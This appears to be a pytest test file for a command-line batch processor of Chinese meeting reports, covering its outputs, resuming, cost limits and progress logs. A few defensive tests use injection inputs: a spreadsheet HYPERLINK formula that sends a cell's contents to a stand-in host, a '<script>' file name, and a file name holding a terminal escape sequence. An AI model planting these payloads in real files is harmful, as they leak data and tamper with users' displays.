"""`jiyao batch`: outputs, resume, failures, limits; and the pieces it stands on."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from jiyao import batch as batch_module
from jiyao import chunking
from jiyao.batch import Batch, output_paths, outputs_complete
from jiyao.batch_index import MEETINGS_COLUMNS
from jiyao.cleaning.model import CleanReport
from jiyao.cli import app
from jiyao.files import atomic_write
from jiyao.llm.ratelimit import RateLimiter
from jiyao.settings import Settings
from tests.fake_openai import FakeOpenAI, Reply
from tests.helpers import ROOT, seed
from tests.reliability.corpus import many_reports

runner = CliRunner()


def test_batch_writes_three_outputs_per_report_and_a_summary(fake_llm: FakeOpenAI, tmp_path: Path) -> None:
    many_reports(tmp_path / "in" / "sub", 3)
    result = runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out")])
    assert result.exit_code == 0, result.stderr
    out = tmp_path / "out" / "sub"
    for stem in ("r000_000", "r001_001", "r002_002"):
        assert json.loads((out / f"{stem}.readout.json").read_text(encoding="utf-8"))["chair"]
        assert (out / f"{stem}.en.md").read_text(encoding="utf-8").count("[EN ") > 3
        assert (out / f"{stem}.brief.html").read_text(encoding="utf-8").rstrip().endswith("</html>")
    summary = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
    assert summary["counts"] == {"done": 3, "cached": 0, "skipped": 0, "failed": 0, "interrupted": 0, "not_run": 0}
    # A seed fits one readout call and one translation call; every request is counted,
    # those the server refused (a format it does not take) and those a proxy failed too.
    assert summary["engine"] == "llm" and summary["tokens"]["prompt"] > 0 and summary["tokens"]["completion"] > 0
    assert len(fake_llm.completions()) == 3 * 2
    # A server that reports no usage: every answer's tokens counted by jiyao, and said so.
    # Counted here: the answers of a server that reports no usage, and those a server refused
    # as no JSON and sent back in its error (Groq's json_validate_failed: the chatty model's).
    reported = fake_llm.profile.usage and not fake_llm.profile.checks_json
    assert summary["tokens"].get("counted_here", 0) == (0 if reported else 3 * 2)
    sent = fake_llm.completions() + fake_llm.rejected + fake_llm.faulted
    assert summary["requests"] == len(sent)
    assert "3 reports: 3 done" in result.stderr


def test_the_cache_is_opened_before_any_report_is_asked(
    fake_llm: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Each report's first request had opened it: the first eight waited on one opening, whose
    # every SQL statement waited for the GIL behind a report being cleaned (~0.2 s a batch).
    from jiyao.cache import ResultCache

    opened_in: list[str] = []
    real = ResultCache._open_or_heal

    def noted(cache: ResultCache) -> Any:
        opened_in.append(threading.current_thread().name)
        return real(cache)

    monkeypatch.setattr(ResultCache, "_open_or_heal", noted)
    many_reports(tmp_path / "in", 3)
    state = Batch(tmp_path / "in", tmp_path / "out", Settings.from_env(), concurrency=2).run()
    assert not state.failed
    assert opened_in == [threading.main_thread().name]


def test_a_re_run_skips_complete_reports_and_redoes_broken_ones(fake_llm: FakeOpenAI, tmp_path: Path) -> None:
    many_reports(tmp_path / "in", 3)
    runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out")])
    made = len(fake_llm.completions())
    (tmp_path / "out" / "r001_001.brief.html").write_text("<html><body>half", encoding="utf-8")  # a torn file
    result = runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out")])
    summary = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
    status = {r["name"]: r["status"] for r in summary["results"]}
    assert status == {"r000_000.txt": "skipped", "r001_001.txt": "cached", "r002_002.txt": "skipped"}
    assert len(fake_llm.completions()) == made  # the redone report came from the cache
    assert result.exit_code == 0


def test_a_dry_run_of_a_batch_plans_every_report_and_asks_nothing(fake_llm: FakeOpenAI, tmp_path: Path) -> None:
    # Before: --dry-run was left to the provider batch; online, the batch ran and paid.
    many_reports(tmp_path / "in", 3)
    (tmp_path / "in" / "broken.txt").write_bytes(b"\x00\x01\x02binary")
    result = runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out"), "--dry-run"])
    assert result.exit_code == 0, result.stderr
    assert fake_llm.completions() == [] and not (tmp_path / "out").exists()
    assert result.stdout.startswith("dry run: 3 reports, 6 calls to ")
    named = {line.split(":")[0].strip() for line in result.stdout.splitlines()[1:5]}
    assert named == {"r000_000.txt", "r001_001.txt", "r002_002.txt", "broken.txt"}
    assert "broken.txt: would fail: " in result.stdout and "estimated cost" in result.stdout
    # Its progress is told as the batch's is (before: nothing until the end, the reports read
    # one by one in this process: 300 garbled ones took longer than the offline batch of them).
    assert "jiyao: batch: 4 reports found" in result.stderr and "jiyao: batch: 4/4 reports" in result.stderr
    # Once run, the same batch plans nothing more: its reports are skipped.
    runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out")])
    again = runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out"), "--dry-run"])
    assert again.stdout.startswith("dry run: 0 reports, 0 calls to ") and "3 skipped" in again.stdout


def _spent(summary: dict[str, Any]) -> float:
    return sum(r["cost"] for r in summary["results"])


def test_a_batch_under_max_cost_finishes_the_reports_it_starts_and_stops_there(
    fake_llm: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Before: the online batch took --max-cost and ignored it (five seeds, a budget of $0.50:
    # $40.85 spent, exit 0).
    monkeypatch.setenv("JIYAO_PRICE_INPUT", "1000")
    monkeypatch.setenv("JIYAO_PRICE_OUTPUT", "1000")
    many_reports(tmp_path / "in", 5)
    args = ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out")]
    planned = re.search(r"estimated cost \$([\d.]+)", runner.invoke(app, [*args, "--dry-run"]).stdout)
    assert planned is not None
    budget = float(planned[1]) * 0.45  # about two reports of five
    result = runner.invoke(app, [*args, "--max-cost", f"{budget:.4f}"])
    assert result.exit_code == 4, result.stderr
    summary = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
    assert summary["stopped_at_budget"] is True and summary["counts"]["failed"] == 0, summary["results"]
    assert 1 <= summary["counts"]["done"] < 5 and summary["counts"]["not_run"] == 5 - summary["counts"]["done"]
    assert _spent(summary) <= budget and "reports not run; run again with a larger budget" in result.stderr
    # A larger budget goes on where it stopped: the reports written are skipped.
    rest = runner.invoke(app, [*args, "--max-cost", f"{budget * 4:.4f}"])
    assert rest.exit_code == 0, rest.stderr
    after = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
    assert after["counts"]["skipped"] == summary["counts"]["done"]
    assert after["counts"]["done"] == 5 - after["counts"]["skipped"]


def test_a_failing_report_does_not_stop_the_others_and_sets_the_exit_code(fake_llm: FakeOpenAI, tmp_path: Path) -> None:
    many_reports(tmp_path / "in", 3)
    (tmp_path / "in" / "broken.txt").write_bytes(b"\x00\x01\x02binary")
    fake_llm.responder = lambda seen: Reply("I'm sorry, I cannot.") if "第2號通報" in str(seen.body) else None
    result = runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out")])
    assert result.exit_code == 1
    summary = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
    failed = {r["name"]: r["reason"] for r in summary["results"] if r["status"] == "failed"}
    assert set(failed) == {"broken.txt", "r001_001.txt"}
    assert "binary" in failed["broken.txt"] and "refused" in failed["r001_001.txt"]
    assert not list((tmp_path / "out").glob("r001_001.*")) and len(list((tmp_path / "out").glob("r000_000.*"))) == 3


def test_offline_batch_writes_readout_and_brief_only(tmp_path: Path) -> None:
    many_reports(tmp_path / "in", 2)
    result = runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out"), "--glob", "r000*.txt"])
    assert result.exit_code == 0 and "no LLM endpoint configured" in result.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [
        ".jiyao-batch.lock",
        "index.html",
        "manifest.json",
        "meetings.csv",
        "people.csv",
        "r000_000.brief.html",
        "r000_000.readout.json",
        "summary.json",
    ]


def test_an_offline_batch_loads_no_tokenizer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Nothing offline counts tokens; loading cl100k had cost each `jiyao batch` ~0.35 s.
    loaded: list[str | None] = []
    monkeypatch.setattr(chunking, "tokenizer_for", lambda model: loaded.append(model))
    many_reports(tmp_path / "in", 2)
    state = Batch(tmp_path / "in", tmp_path / "out", Settings.from_env()).run()
    assert [o.status for o in state.outcomes] == ["done", "done"]
    assert loaded == []


def test_an_offline_batch_imports_nothing_of_the_llm_path(tmp_path: Path) -> None:
    # ~0.1 s of imports (the readout's map-reduce, translation, the engine, prompts, cache)
    # that an offline `jiyao batch` had paid for nothing. In a process of its own: this
    # one has imported everything.
    import subprocess
    import sys

    many_reports(tmp_path / "in", 1)
    # The session's tables built here (as any test would), not in the child's own time.
    Batch(tmp_path / "in", tmp_path / "built", Settings.from_env()).run()
    program = (
        "import sys; from pathlib import Path; from jiyao.batch import Batch; from jiyao.settings import Settings\n"
        f"state = Batch(Path({str(tmp_path / 'in')!r}), Path({str(tmp_path / 'out')!r}), Settings.from_env()).run()\n"
        "print([o.status for o in state.outcomes])\n"
        "llm = ('jiyao.llm', 'jiyao.pipeline.', 'jiyao.cache', 'openai')\n"
        "print(sorted(m for m in sys.modules if m.startswith(llm)))"
    )
    # The test's own settings (its cache, the built tables), and no endpoint: none is set.
    result = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert result.stdout.splitlines() == ["['done']", "[]"]


def test_saved_pages_the_glob_leaves_out_are_named_not_skipped_silently(tmp_path: Path) -> None:
    many_reports(tmp_path / "in", 1)
    page = "<html><body><h1>县委召开会议</h1><p>3月2日，县委书记王明主持会议。</p></body></html>"
    (tmp_path / "in" / "pages").mkdir()
    for name in ("a.html", "b.HTM", "notes.csv"):
        (tmp_path / "in" / "pages" / name).write_text(page, encoding="utf-8")
    result = runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out")])
    assert result.exit_code == 0
    assert "2 files not matched by --glob '**/*.txt', not read: pages/a.html, pages/b.HTM" in result.stderr
    assert "--glob '**/*.HTM' or --glob '**/*.html' reads them" in result.stderr
    summary = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
    assert summary["reports"] == 1 and summary["not_matched_by_glob"] == ["pages/a.html", "pages/b.HTM"]
    # With the glob the note names, the pages are read (as the text they show).
    again = runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out2"), "--glob", "**/*.html"])
    assert again.exit_code == 0 and "not matched" in again.stderr  # the .txt report and b.HTM, this time
    readout = json.loads((tmp_path / "out2" / "pages" / "a.readout.json").read_text(encoding="utf-8"))
    assert readout["chair"]["name"] == "王明"


@pytest.mark.parametrize("refused", ["no folder", "output a file"])
def test_a_batch_its_arguments_refuse_says_so_alone(tmp_path: Path, refused: str) -> None:
    # The error had come with an empty progress bar after it (`reports 0/? 0:00:00`).
    (tmp_path / "in").mkdir()
    (tmp_path / "file").write_text("x", encoding="utf-8")
    directory, output = ("nope", "out") if refused == "no folder" else ("in", "file")
    result = runner.invoke(app, ["batch", str(tmp_path / directory), "-o", str(tmp_path / output)])
    assert result.exit_code == 2
    said = result.stderr.strip().splitlines()
    assert said[-1].startswith("jiyao: error: ") and "not a directory" in said[-1], said
    assert "reports" not in result.stderr and "0/?" not in result.stderr


def test_outputs_complete_needs_every_file_whole(tmp_path: Path) -> None:
    paths = output_paths(tmp_path, "a", translation=True)
    assert not outputs_complete(paths)
    atomic_write(paths["readout"], "{}")
    atomic_write(paths["en"], "text")
    atomic_write(paths["brief"], "<html></html>\n")
    assert outputs_complete(paths)
    atomic_write(paths["readout"], '{"date": "bad"}')
    assert not outputs_complete(paths)


def test_an_interrupted_write_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "out.json"
    atomic_write(target, "old")

    def interrupted(*args: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("jiyao.files.os.replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        atomic_write(target, "new and half")
    assert target.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["out.json"]


def test_the_batch_says_how_many_reports_it_found_before_the_first_is_done(tmp_path: Path) -> None:
    # The progress bar had shown 0/? until the first report was done (a minute, against a slow model).
    many_reports(tmp_path / "in", 3)
    seen: list[tuple[int, int]] = []
    batch = Batch(
        tmp_path / "in", tmp_path / "out", Settings.from_env(),
        on_started=lambda state: seen.append((state.total, len(state.outcomes))),
    )  # fmt: skip
    batch.run()
    assert seen == [(3, 0)]


def test_a_batch_in_a_log_says_how_far_it_is_while_it_runs(fake_llm: FakeOpenAI, tmp_path: Path) -> None:
    # With stderr a file (cron, a service manager), the bar was written once, at the end:
    # hours of batch showed nothing, and a failure was told only when all was over.
    fake_llm.latency = 1.0
    many_reports(tmp_path / "in", 3)
    (tmp_path / "in" / "zz.txt").write_bytes(bytes(range(256)) * 400)  # the largest, so the first read: it fails
    command = ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out"), "--concurrency", "1"]
    batch = subprocess.Popen(
        [sys.executable, "-m", "jiyao", *command],
        cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    assert batch.stderr is not None
    said: list[str] = []
    running = False
    for line in batch.stderr:
        said.append(line)
        if "1/4 reports" in line:
            running = batch.poll() is None  # three reports of a second's call each are still to come
            break
    batch.communicate()
    assert running and batch.returncode == 1, said
    assert said[-3:-1] == [
        "jiyao: batch: 4 reports found\n",
        "jiyao: failed: zz.txt: binary data (NUL bytes), not a text report\n",
    ], said
    assert said[-1].startswith("jiyao: batch: 1/4 reports · 1 failed · 0 tokens · $0.0000 · 0:00:"), said


@pytest.mark.parametrize("engine", ["offline", "llm"])
def test_a_batchs_lines_in_a_log_count_tokens_and_cost_only_where_there_are_any(tmp_path: Path, engine: str) -> None:
    from rich.console import Console

    from jiyao.batch import BatchState, Outcome
    from jiyao.cli.batch_progress import BatchLines

    log = io.StringIO()
    lines = BatchLines(Console(file=log, force_terminal=False), every=3600.0)
    state = BatchState(tmp_path, tmp_path / "out", engine, None, total=3)
    with lines:
        lines.started(state)
        for name, status in (("a.txt", "done"), ("b.txt", "failed"), ("c.txt", "done")):
            outcome = Outcome(name, status, "no report text" if status == "failed" else None, prompt_tokens=100)
            state.outcomes.append(outcome)
            lines.done(outcome, state)
    said = log.getvalue().splitlines()
    counts = "1 failed · 300 tokens · $0.0000" if engine == "llm" else "1 failed"
    assert said == [
        "jiyao: batch: 3 reports found",
        f"jiyao: batch: 1/3 reports · {'0 failed · 100 tokens · $0.0000' if engine == 'llm' else '0 failed'} · 0:00:00",
        "jiyao: failed: b.txt: no report text",  # as it happens; the counts wait for the hour or the last
        f"jiyao: batch: 3/3 reports · {counts} · 0:00:00",
    ], said


def test_ctrl_c_writes_the_summary_of_what_finished(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    many_reports(tmp_path / "in", 2)
    batch = Batch(tmp_path / "in", tmp_path / "out", Settings.from_env())

    def interrupt() -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(batch, "run_async", lambda: interrupt())  # type: ignore[arg-type,return-value]
    with pytest.raises(KeyboardInterrupt):
        batch.run()
    summary = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
    assert summary["interrupted"] is True


class FakeClock:
    def __init__(self) -> None:
        self.now = 0.0
        self.slept: list[float] = []

    def __call__(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)
        self.now += seconds


def test_rate_limiter_holds_requests_per_minute() -> None:
    clock = FakeClock()
    limiter = RateLimiter(requests_per_minute=60, clock=clock, sleep=clock.sleep)
    for _ in range(60):
        limiter.acquire()
    assert clock.now == 0.0  # a full bucket: a burst of 60 goes at once
    limiter.acquire()
    assert clock.now == pytest.approx(1.0)  # the 61st waits one second (60 per minute)


def test_rate_limiter_holds_tokens_per_minute() -> None:
    clock = FakeClock()
    limiter = RateLimiter(tokens_per_minute=1200, clock=clock, sleep=clock.sleep)
    limiter.acquire(1000)
    limiter.acquire(600)  # 200 left: waits for 400 more at 20 tokens/s
    assert clock.now == pytest.approx(20.0)
    assert not RateLimiter().active and RateLimiter().acquire(10**9) == 0.0


def test_batch_rpm_flag_reaches_the_limiter(fake_llm: FakeOpenAI, tmp_path: Path) -> None:
    many_reports(tmp_path / "in", 1)
    batch = Batch(tmp_path / "in", tmp_path / "out", Settings.from_env().replace(rpm=6000.0, tpm=10**7))
    assert batch.engine is not None and batch.engine.backend.limiter.active  # type: ignore[attr-defined]
    batch.run()
    assert not batch.state.failed


def test_batch_writes_an_index_and_a_people_list(tmp_path: Path) -> None:
    many_reports(tmp_path / "in", 3)
    (tmp_path / "in" / "x<script>.txt").write_bytes((tmp_path / "in" / "r000_000.txt").read_bytes())
    result = runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out")])
    assert result.exit_code == 0, result.stderr
    index = (tmp_path / "out" / "index.html").read_text(encoding="utf-8")
    assert index.count('href="r00') >= 2 * 3 and "<script>" not in index  # by date and by place
    assert "x&lt;script&gt;.txt" in index
    # The meeting's name in English beside the Chinese, where its parts are known.
    assert "city-wide epidemic prevention and control video meeting" in index
    rows = (tmp_path / "out" / "people.csv").read_text(encoding="utf-8").splitlines()
    assert rows[0] == "name,name_en,title,title_en,role,report"
    assert "郭文海,Guo Wenhai,市委書記,Secretary of the Municipal Party Committee,chair,r000_000.txt" in rows
    # A row a report, to sort and filter a batch in a spreadsheet.
    meetings = list(csv.DictReader(io.StringIO((tmp_path / "out" / "meetings.csv").read_text(encoding="utf-8"))))
    assert len(meetings) == 4 and list(meetings[0]) == list(MEETINGS_COLUMNS)
    row = next(m for m in meetings if m["report"] == "r000_000.txt")
    when_where = (row["date"], row["time_of_day"], row["place"], row["place_en"])
    assert when_where == ("--11-28", "evening", "中山市", "Zhongshan City")
    assert row["meeting_en"] == "city epidemic prevention and control video coordination meeting"
    assert (row["chair"], row["chair_en"], row["chair_title"]) == ("郭文海", "Guo Wenhai", "市委書記")
    # As the brief counts them: "13 named officials were reported present", 9 directives.
    assert (row["attendees"], row["directives"], row["to_check"]) == ("13", "9", "0")
    assert row["slogans"].startswith("外防輸入、內防擴散；") and row["brief"] == "r000_000.brief.html"


def test_reports_of_one_stem_in_one_folder_keep_their_own_outputs(tmp_path: Path) -> None:
    # a.txt and a.md had both written a.readout.json and a.brief.html, the second over the
    # first, and the index linked the survivor twice.
    reports = tmp_path / "in"
    (reports / "sub").mkdir(parents=True)
    for name, number in (("a.txt", "000"), ("a.md", "001"), ("A.TXT", "002"), ("sub/a.txt", "003"), ("b.txt", "004")):
        (reports / name).write_bytes(seed(number).read_bytes())
    result = runner.invoke(app, ["batch", str(reports), "-o", str(tmp_path / "out"), "--glob", "**/*"])
    assert result.exit_code == 0, result.stderr
    summary = json.loads((tmp_path / "out" / "summary.json").read_text(encoding="utf-8"))
    outputs = {r["name"]: r["outputs"] for r in summary["results"]}
    briefs = [next(p for p in paths if p.endswith(".brief.html")) for paths in outputs.values()]
    assert len(set(briefs)) == 5  # one each
    names = {name: Path(brief).name for name, brief in zip(outputs, briefs, strict=True)}
    # A stem no other report in its folder has keeps the short name; A.TXT and a.txt meet
    # on a folder that tells no case apart, so they are numbered.
    assert names["b.txt"] == "b.brief.html" and names["sub/a.txt"] == "a.brief.html"
    assert names["a.md"] == "a.md.brief.html"
    assert len({names["a.txt"].casefold(), names["A.TXT"].casefold()}) == 2
    chairs = {
        name: json.loads(Path(next(p for p in paths if p.endswith(".readout.json"))).read_text())["chair"]["name"]
        for name, paths in outputs.items()
    }
    assert len(set(chairs.values())) == 5  # each its own report's
    index = (tmp_path / "out" / "index.html").read_text(encoding="utf-8")
    assert all(f'href="{Path(brief).relative_to(tmp_path / "out").as_posix()}"' in index for brief in briefs)
    # And a re-run finds each report's outputs where it left them.
    again = runner.invoke(app, ["batch", str(reports), "-o", str(tmp_path / "out"), "--glob", "**/*"])
    assert "5 skipped" in again.stderr, again.stderr


def test_the_index_links_a_brief_whose_name_a_link_cannot_hold_as_it_is(tmp_path: Path) -> None:
    # A space, a newline (which a browser drops from a link) and a # (which starts a fragment).
    reports = tmp_path / "in"
    reports.mkdir()
    (reports / "會議 #2\n.txt").write_bytes(seed("000").read_bytes())
    result = runner.invoke(app, ["batch", str(reports), "-o", str(tmp_path / "out")])
    assert result.exit_code == 0, result.stderr
    index = (tmp_path / "out" / "index.html").read_text(encoding="utf-8")
    assert 'href="%E6%9C%83%E8%AD%B0%20%232%0A.brief.html"' in index


def test_the_people_list_holds_those_only_mentioned_with_that_role() -> None:
    from jiyao.batch_index import Entry, people_csv
    from jiyao.cleaning import clean_text
    from jiyao.extraction import extract_offline

    text = "縣委召開會議\n3月2日，縣委書記王明主持會議，會議傳達學習了習近平總書記重要講話精神。縣長李強出席。"
    rows = people_csv([Entry("a.txt", extract_offline(clean_text(text)), "a.brief.html")]).splitlines()
    assert [row.split(",")[4] for row in rows[1:]] == ["chair", "attendee", "mentioned"]
    assert rows[3].startswith("習近平,Xi Jinping,總書記,")


def test_the_csv_files_keep_text_a_spreadsheet_would_run_as_a_formula_as_text() -> None:
    # Names, titles and slogans come from scraped pages, reports' names from files: a cell
    # opening with = + - @ is run by a spreadsheet (=HYPERLINK… sends what it holds away).
    from jiyao.batch_index import Entry, meetings_csv, people_csv
    from jiyao.cleaning import clean_text
    from jiyao.extraction import extract_offline

    readout = extract_offline(clean_text("縣委召開會議\n3月2日，縣委書記王明主持會議。縣長李強出席。"))
    readout = readout.model_copy(update={"slogans": ['=HYPERLINK("http://x.example/?"&A1)', "-2+3"]})
    entry = Entry("@report.txt", readout, "+report.brief.html")
    meetings = next(csv.DictReader(io.StringIO(meetings_csv([entry]))))
    assert meetings["report"] == "'@report.txt" and meetings["brief"] == "'+report.brief.html"
    assert meetings["slogans"] == '\'=HYPERLINK("http://x.example/?"&A1)；-2+3'
    assert meetings["date"] == "--03-02" and meetings["chair"] == "王明"  # jiyao's own values, clean text: as they are
    people = list(csv.DictReader(io.StringIO(people_csv([entry]))))
    assert {row["report"] for row in people} == {"'@report.txt"} and people[0]["name"] == "王明"


def test_the_index_says_which_briefs_to_check_before_quoting_them() -> None:
    # Before: a batch's index showed a page of English, a report whose names damaged bytes
    # took and a clean one alike; its notes were only inside each brief.
    from jiyao.batch_index import Entry, index_html
    from jiyao.cleaning import clean_file, clean_text
    from jiyao.extraction import extract_offline

    english = extract_offline(clean_text("The city council met on Monday."))
    clean = extract_offline(clean_file(seed("001")))
    index = index_html([Entry("en.txt", english, "en.brief.html"), Entry("seed.txt", clean, "seed.brief.html")])
    rows = {name: row for row in index.split("<tr>") for name in ("en.txt", "seed.txt") if f">{name}<" in row}
    assert len(rows) == 2
    assert "<summary>1</summary>" in rows["en.txt"] and "the text holds no Chinese characters" in rows["en.txt"]
    assert "<summary>" not in rows["seed.txt"]  # only the note of what needs an LLM: nothing to check
    assert any("need an LLM endpoint" in n for n in clean.notes)


def test_recording_a_report_writes_its_own_change_not_the_whole_manifest(tmp_path: Path) -> None:
    # Rewriting the whole manifest per record made a batch quadratic: 3,000 reports spent
    # 65 s writing it, under the lock every worker waits for.
    from jiyao.batch import _Manifest

    stamp = {"sha256": "ab" * 32, "engine": "llm", "model": "m", "cleaner": "1"}
    manifest = _Manifest(tmp_path / "manifest.json")
    for i in range(400):
        manifest.record(f"reports/r{i:04d}.txt", stamp)
    on_disk = sum(p.stat().st_size for p in tmp_path.iterdir())
    manifest.record("reports/last.txt", stamp)
    one_record = sum(p.stat().st_size for p in tmp_path.iterdir()) - on_disk
    assert 0 < one_record < 400
    manifest.compact()
    reopened = _Manifest(tmp_path / "manifest.json")
    assert reopened.entries == manifest.entries and len(reopened.entries) == 401
    assert [p.name for p in tmp_path.iterdir()] == ["manifest.json"]  # the journal folded in


def test_a_killed_runs_manifest_journal_is_read_up_to_its_torn_line(tmp_path: Path) -> None:
    from jiyao.batch import _Manifest

    stamp = {"sha256": "cd" * 32, "engine": "offline", "model": None, "cleaner": "1"}
    manifest = _Manifest(tmp_path / "manifest.json")
    manifest.record("a.txt", stamp)
    manifest.compact()
    manifest.record("b.txt", stamp)
    manifest.record("a.txt", None)  # a.txt's old outputs no longer stand
    journal = next(p for p in tmp_path.iterdir() if p.name != "manifest.json")
    with journal.open("ab") as handle:
        handle.write(b'{"name": "c.txt", "sta')  # the write a SIGKILL cut
    reopened = _Manifest(tmp_path / "manifest.json")
    assert reopened.entries == {"b.txt": stamp}
    reopened.record("d.txt", stamp)  # appends after the torn line, which stays ignored
    assert _Manifest(tmp_path / "manifest.json").entries == {"b.txt": stamp, "d.txt": stamp}


def test_a_re_run_redoes_reports_made_with_another_prompt_glossary_or_jiyao(
    fake_llm: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    from tests.helpers import ROOT

    many_reports(tmp_path / "in", 2)
    prompts = tmp_path / "prompts"
    shutil.copytree(ROOT / "prompts", prompts)
    monkeypatch.setenv("JIYAO_PROMPTS_DIR", str(prompts))
    out = tmp_path / "out"

    def statuses() -> set[str]:
        result = runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(out)])
        assert result.exit_code == 0, result.stderr
        summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
        return {r["status"] for r in summary["results"]}

    assert statuses() == {"done"}
    assert statuses() == {"skipped"}
    # An edited translation prompt: the outputs it made are stale; the readout's calls
    # come from the cache, the translation's are asked anew.
    (prompts / "translate.v4.toml").write_text(
        (prompts / "translate.v4.toml").read_text(encoding="utf-8").replace("faithful", "faithful, plain"),
        encoding="utf-8",
    )
    made = len(fake_llm.completions())
    assert statuses() == {"done"}
    assert {s.task for s in fake_llm.completions()[made:]} == {"translate"}
    assert statuses() == {"skipped"}
    # An own glossary changes the titles' English in every output.
    own = tmp_path / "mine.json"
    own.write_text('{"titles": {"市委書記": "Party Secretary"}, "terms": {}}', encoding="utf-8")
    monkeypatch.setenv("JIYAO_GLOSSARY", str(own))
    assert statuses() == {"done"}
    assert '"title_en": "Party Secretary"' in (out / "r000_000.readout.json").read_text(encoding="utf-8")
    assert statuses() == {"skipped"}
    # Another jiyao (an upgrade, a checkout's edit) may read the same input otherwise: its
    # reports are made anew, their requests all answered from the cache.
    monkeypatch.setattr("jiyao.batch._code_digest", lambda: "another")
    assert statuses() == {"cached"}


def test_the_next_report_is_cleaned_while_the_endpoint_answers(
    fake_llm: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Only the asking holds a slot: at --concurrency 1 the second report is read and cleaned
    # while the first one's requests are out, not after its outputs are written (its CPU
    # work was on the requests' path, and the endpoint sat idle during it).
    many_reports(tmp_path / "in", 2)
    fake_llm.latency = 0.5
    in_flight_when_cleaned: list[int] = []
    clean = batch_module.clean_bytes

    def watched(data: bytes, **options: Any) -> CleanReport:
        if in_flight_when_cleaned:  # the second report: the first one's requests go out within 5 s
            waited_until = time.monotonic() + 5
            while fake_llm.in_flight == 0 and time.monotonic() < waited_until:
                time.sleep(0.01)
        in_flight_when_cleaned.append(fake_llm.in_flight)
        return clean(data, **options)

    monkeypatch.setattr(batch_module, "clean_bytes", watched)
    state = Batch(tmp_path / "in", tmp_path / "out", Settings.from_env(), concurrency=1).run()
    assert [o.status for o in state.outcomes] == ["done", "done"]
    assert in_flight_when_cleaned[0] == 0 and in_flight_when_cleaned[1] > 0


def test_a_reports_time_budget_counts_its_work_in_every_stage_not_its_wait_for_a_slot(
    fake_llm: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Cleaning took the whole budget: the report stops before it is asked (no request sent),
    # though cleaning and asking are separate stages in separate threads.
    many_reports(tmp_path / "in", 1)
    clean = batch_module.clean_bytes

    def slow(data: bytes, **options: Any) -> CleanReport:
        time.sleep(0.4)
        return clean(data, **options)

    monkeypatch.setattr(batch_module, "clean_bytes", slow)
    settings = Settings.from_env().replace(report_timeout=0.3)
    state = Batch(tmp_path / "in", tmp_path / "out", settings, concurrency=1).run()
    assert [o.status for o in state.outcomes] == ["failed"]
    assert "time budget of 0.3 s" in (state.outcomes[0].reason or "")
    assert fake_llm.completions() == []
    # Four reports one at a time, each asked for ~0.2 s: the last waits ~0.6 s for its slot,
    # which is no part of its own budget of 0.5 s.
    monkeypatch.setattr(batch_module, "clean_bytes", clean)
    many_reports(tmp_path / "more", 4)
    fake_llm.latency = 0.2
    settings = Settings.from_env().replace(report_timeout=0.5)
    state = Batch(tmp_path / "more", tmp_path / "out-more", settings, concurrency=1).run()
    assert [o.status for o in state.outcomes] == ["done"] * 4


def test_a_batch_of_a_folder_with_no_report_says_so(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "figures.xlsx").write_bytes(b"PK\x03\x04")  # a PDF would be a report now
    result = runner.invoke(app, ["batch", str(tmp_path / "in"), "-o", str(tmp_path / "out")])
    assert result.exit_code == 0
    assert f"no file under {tmp_path / 'in'} matches '**/*.txt': nothing to do" in result.stderr


def test_a_failed_reports_name_is_printed_as_a_terminal_may_show_it(tmp_path: Path) -> None:
    # A file name holding an escape sequence (ESC[2J clears the screen) or a newline had
    # gone to the terminal as it is.
    reports = tmp_path / "in"
    reports.mkdir()
    (reports / "a\x1b[2J\nb.txt").write_bytes(b"")  # empty: it fails
    result = runner.invoke(app, ["batch", str(reports), "-o", str(tmp_path / "out")])
    assert result.exit_code == 1
    assert "jiyao: failed: a\\x1b[2J\\nb.txt: " in result.stderr and "\x1b" not in result.stderr
